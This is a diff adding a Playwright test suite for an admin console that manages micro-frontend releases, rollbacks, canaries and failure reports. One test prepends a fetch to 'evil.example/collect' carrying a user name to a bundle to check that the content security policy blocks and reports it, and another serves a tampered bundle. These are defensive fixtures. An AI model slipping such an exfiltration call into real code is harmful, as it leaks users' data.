@@ -1,0 +1,218 @@
+import type { Page } from '@playwright/test'
+import { remotes } from '@matchdesk/shared/contract'
+import { admin } from '../../support/api'
+import { axeViolations } from '../../support/axe'
+import { expect, question, row, toast } from '../../support/console'
+import { intercept, responseOf } from '../../support/endpoint'
+import { reason, serverError } from '../../support/faults'
+import { test } from '../../support/servers/ownConsole'
+import { overflow } from '../../support/pages'
+import { nextPoll, pollRegistry } from '../../support/remotes/registry'
+import { pointerOf, releaseCanary, releaseRemote } from './remoteVersion'
+
+test.use({ users: 20, settings: { REMOTE_ADMINS: admin.email_id } })
+test.describe.configure({ mode: 'default' })
+
+const table = (page: Page) => page.getByRole('table', { name: 'Remotes' })
+const failures = (page: Page) => page.getByRole('table', { name: 'Last failures' })
+const violations = (page: Page) => page.getByRole('table', { name: 'CSP violations' })
+const remote = (page: Page, name: string) =>
+  table(page)
+    .getByRole('row')
+    .filter({ has: page.getByRole('cell', { name, exact: true }) })
+const header = (page: Page, name: string) => page.getByRole('columnheader', { name, exact: true })
+const inGerman = (code: string) => code.replace('title:"Index"', 'title:"Nr."')
+
+/** Hides the tab, which lets the console tell the server; returns the status of the answer. */
+async function reported(page: Page) {
+  const told = responseOf(page, remotes.report)
+  await page.evaluate(() => {
+    Object.defineProperty(document, 'visibilityState', { value: 'hidden', configurable: true })
+    document.dispatchEvent(new Event('visibilitychange'))
+  })
+  return (await told).status()
+}
+
+async function confirm(page: Page, change: string, name: string, action = change) {
+  await remote(page, name)
+    .getByRole('button', { name: `${change} ${name}` })
+    .click()
+  await expect(question(page)).toContainText(`${change} ${name}?`)
+  await question(page).getByRole('button', { name: action }).click()
+}
+
+test('says what runs here and everywhere, passes axe in light and dark, fits 360 and 1440 pixels, and is reached from the menu', async ({
+  page,
+  open,
+}) => {
+  await open('/master/religion')
+  await expect(header(page, 'Index')).toBeVisible()
+  expect(await reported(page)).toBe(200)
+  await page.getByRole('button', { name: /^Account of/ }).click()
+  await page.keyboard.press('ArrowDown')
+  await expect(page.getByRole('menuitem', { name: 'Remotes' })).toBeFocused()
+  await page.keyboard.press('Enter')
+  await expect(page.getByRole('navigation', { name: 'Breadcrumb' })).toContainText('Remotes')
+  await expect(remote(page, 'masterdata')).toContainText('Running')
+  await expect(remote(page, 'masterdata')).toContainText(/\d ms.*100 % run 1\.0\.0-/)
+  await expect(remote(page, 'users')).toContainText(/Not opened yet.*Not told yet/)
+  await expect(remote(page, 'shell')).toContainText('100 % run')
+  await expect(page.getByRole('heading', { name: 'CSP violations' })).toBeVisible()
+  for (const colorScheme of ['light', 'dark'] as const) {
+    await page.emulateMedia({ colorScheme })
+    expect(await axeViolations(page)).toEqual([])
+  }
+  for (const width of [360, 1440]) {
+    await page.setViewportSize({ width, height: 800 })
+    for (const dir of ['ltr', 'rtl']) {
+      await page.evaluate((value) => document.documentElement.setAttribute('dir', value), dir)
+      await expect.poll(() => overflow(page), `${width} ${dir}`).toBe(0)
+    }
+  }
+})
+
+test('takes a bad version back for everybody: the page shows it, and another tab is offered it', async ({ page, open, own, context }) => {
+  const good = pointerOf(own.releases, 'masterdata').current
+  const bad = releaseRemote(own.releases, 'masterdata', '1.0.1-bad', inGerman)
+  const other = await context.newPage()
+  await pollRegistry(other)
+  await open('/remotes')
+  await other.goto(`${own.url}/#/master/religion`)
+  await expect(header(other, 'Nr.')).toBeVisible()
+
+  await expect(remote(page, 'masterdata')).toContainText(bad.version)
+  await confirm(page, 'Roll back', 'masterdata')
+  await expect(toast(page, `masterdata is back at ${good.version}, from ${bad.version}`)).toBeVisible()
+  await expect(remote(page, 'masterdata')).not.toContainText(bad.version)
+  expect(pointerOf(own.releases, 'masterdata')).toMatchObject({ current: { version: good.version }, rolledBack: bad.version })
+
+  await nextPoll(other)
+  await expect(other.getByText(`A new version is here: masterdata ${good.version}.`)).toBeVisible()
+  await other.getByRole('button', { name: 'Update' }).click()
+  await expect(header(other, 'Index')).toBeVisible()
+})
+
+test('tries a version out with some, and with nobody any more', async ({ page, open, own }) => {
+  const before = pointerOf(own.releases, 'masterdata').current
+  releaseRemote(own.releases, 'masterdata', '1.0.1-tried')
+  await open('/remotes')
+  await remote(page, 'masterdata').getByRole('button', { name: 'Try out masterdata' }).click()
+  await question(page).getByLabel('Version').selectOption(before.version)
+  await question(page).getByLabel('Percent').fill('25')
+  await question(page).getByRole('button', { name: 'Set the canary' }).click()
+  await expect(remote(page, 'masterdata')).toContainText(`Canary ${before.version} for 25 %`)
+  expect(pointerOf(own.releases, 'masterdata').canary?.percent).toBe(25)
+  await remote(page, 'masterdata').getByRole('button', { name: 'Try out masterdata' }).click()
+  await question(page).getByLabel('Percent').fill('0')
+  await question(page).getByRole('button', { name: 'Set the canary' }).click()
+  await expect(remote(page, 'masterdata')).not.toContainText('Canary')
+  expect(pointerOf(own.releases, 'masterdata').canary).toBeUndefined()
+})
+
+test('gives a canary to everybody', async ({ page, open, own }) => {
+  const before = pointerOf(own.releases, 'masterdata').current
+  const canary = releaseCanary(own.releases, 'masterdata', '1.0.1-canary', inGerman)
+  await open('/remotes')
+  await expect(remote(page, 'users').getByRole('button', { name: 'Promote users' })).toHaveCount(0)
+  await confirm(page, 'Promote', 'masterdata', 'Release to everybody')
+  await expect(toast(page, `masterdata is ${canary.version} for everybody, instead of ${before.version}`)).toBeVisible()
+  await expect(remote(page, 'masterdata')).toContainText(`${canary.version}Before it ${before.version}`)
+  await expect(remote(page, 'masterdata')).not.toContainText('Canary')
+  expect(pointerOf(own.releases, 'masterdata')).toEqual({ name: 'masterdata', enabled: true, current: canary, previous: before })
+  await page.goto('/#/master/religion')
+  await expect(header(page, 'Nr.')).toBeVisible()
+})
+
+test('switches a remote off and on, and its pages say so', async ({ page, open }) => {
+  const bankDetails = page.getByRole('link', { name: 'Show Bank Details' })
+  await open('/remotes')
+  await expect(bankDetails).toBeVisible()
+  await confirm(page, 'Disable', 'payments')
+  await expect(remote(page, 'payments')).toContainText('Disabled')
+  await expect(bankDetails).toHaveCount(0)
+  await page.goto('/#/payment/details')
+  await expect(page.getByRole('main')).toContainText('Bank Details is switched off')
+  await page.goto('/#/remotes')
+  await confirm(page, 'Enable', 'payments')
+  await expect(remote(page, 'payments')).toContainText('Not opened yet')
+  await expect(bankDetails).toBeVisible()
+})
+
+test.describe('while something fails', () => {
+  test.use({ allowed: [/.*/] })
+
+  test('a change that came too late keeps the question with the reason, and is done after', async ({ page, open, own }) => {
+    await open('/remotes')
+    await expect(remote(page, 'masterdata')).toContainText('Not opened yet')
+    releaseRemote(own.releases, 'masterdata', '1.0.2-next')
+    await confirm(page, 'Disable', 'masterdata')
+    await expect(question(page)).toContainText('Somebody else has changed masterdata meanwhile: it is 1.0.2-next now')
+    await expect(question(page)).toContainText('masterdata is 1.0.2-next now')
+    await page.keyboard.press('Escape')
+    await confirm(page, 'Roll back', 'masterdata')
+    await expect(page.getByText(/^masterdata is back at/)).toBeVisible()
+  })
+
+  test('a remote that was tampered with stands under the last failures', async ({ page, open }) => {
+    await page.route(/\/releases\/users\/[^/]+\/remoteEntry/, (route) =>
+      route.fulfill({ contentType: 'text/javascript', body: 'window.evil = true' }),
+    )
+    const told = responseOf(page, remotes.report)
+    await open('/users/all')
+    await expect(page.getByRole('main').getByRole('alert')).toContainText('App Users is not available')
+    expect((await told).status()).toBe(200)
+    await page.goto('/#/remotes')
+    await expect(remote(page, 'users')).toContainText('Failed')
+    await expect(row(page, 'is not the one that was released')).toContainText('users')
+    await expect(failures(page)).toContainText('remoteEntry')
+  })
+
+  test('what the policy refuses stands there by its remote', async ({ page, open, own }) => {
+    const leak = 'fetch("https://evil.example/collect?who=ayesha").catch(()=>{});'
+    releaseRemote(own.releases, 'payments', '1.0.1-leaking', (code) => leak + code)
+    const told = responseOf(page, remotes.report)
+    await open('/payment/details')
+    await expect(page.getByRole('table', { name: 'Bank accounts' })).toBeVisible()
+    expect((await told).status()).toBe(200)
+    await page.goto('/#/remotes')
+    await expect(violations(page).getByRole('row').filter({ hasText: 'payments' })).toContainText('connect-src')
+    await expect(violations(page)).toContainText('https://evil.example/collect')
+    await expect(violations(page)).not.toContainText('ayesha')
+  })
+
+  test('the page says why, shows what it knows itself, and Retry brings the rest', async ({ page, open }) => {
+    const restore = await intercept(page, remotes.status, serverError)
+    await open('/remotes')
+    await expect(page.getByRole('alert')).toContainText(reason)
+    await expect(remote(page, 'users')).toContainText('Not opened yet')
+    await expect(table(page).getByRole('button')).toHaveCount(0)
+    await restore()
+    await page.getByRole('button', { name: 'Retry' }).click()
+    await expect(page.getByRole('heading', { name: 'Last failures' })).toBeVisible()
+    await expect(page.getByRole('alert')).toHaveCount(0)
+  })
+
+  test('a report that does not arrive says nothing to anybody', async ({ page, open }) => {
+    await intercept(page, remotes.report, (route) => route.fulfill({ status: 401, json: { message: 'Please sign in again' } }))
+    await open('/remotes')
+    await expect(remote(page, 'users')).toBeVisible()
+    expect(await reported(page)).toBe(401)
+    await page.getByRole('button', { name: 'Refresh' }).click()
+    await expect(remote(page, 'users')).toBeVisible()
+    await expect(question(page)).toHaveCount(0)
+  })
+})
+
+test('is copied as text', async ({ page, open, context }) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
+  await open('/remotes')
+  await expect(remote(page, 'users')).toBeVisible()
+  expect(await reported(page)).toBe(200)
+  await page.getByRole('button', { name: 'Refresh' }).click()
+  await expect(remote(page, 'shell')).toContainText('% run')
+  await page.getByRole('button', { name: 'Copy as text' }).click()
+  await expect(toast(page, 'Copied as text')).toBeVisible()
+  const text = await page.evaluate(() => navigator.clipboard.readText())
+  expect(text).toMatch(/^Remotes at .*\nshell .*\n {2}100 % run /)
+  expect(text).toMatch(/\nusers 1\.0\.0-\w+: Not opened yet/)
+})
